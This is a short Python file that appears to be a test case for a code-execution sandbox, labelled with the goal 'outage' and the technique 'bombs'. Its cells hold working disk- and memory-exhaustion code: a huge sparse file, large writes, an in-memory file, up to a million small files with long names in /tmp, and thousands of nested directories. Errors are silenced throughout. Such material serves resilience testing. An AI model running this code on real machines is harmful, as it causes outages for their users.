"""Files until the disk is full: a large one, a sparse one, a million small ones, in memory, deep folders, long names."""

GOAL = "outage"
TECHNIQUE = "bombs"
CELLS = [
    """
import os, time
end = time.time() + 3
def attempt(act):
    try:
        act()
    except (OSError, MemoryError):
        pass
attempt(lambda: open('sparse', 'wb').truncate(2**50))
attempt(lambda: open('large', 'wb').write(bytes(2**28)))
attempt(lambda: os.write(os.memfd_create('x'), bytes(2**28)))
try:
    for number in range(10**6):
        if time.time() > end: break
        open(f'/tmp/{number:0200}', 'wb').write(bytes(4096))
except OSError:
    pass
try:
    for _ in range(5000):
        os.mkdir('deep' * 60); os.chdir('deep' * 60)
except OSError:
    pass
""",
    "import os\nos.chdir('/')",
]
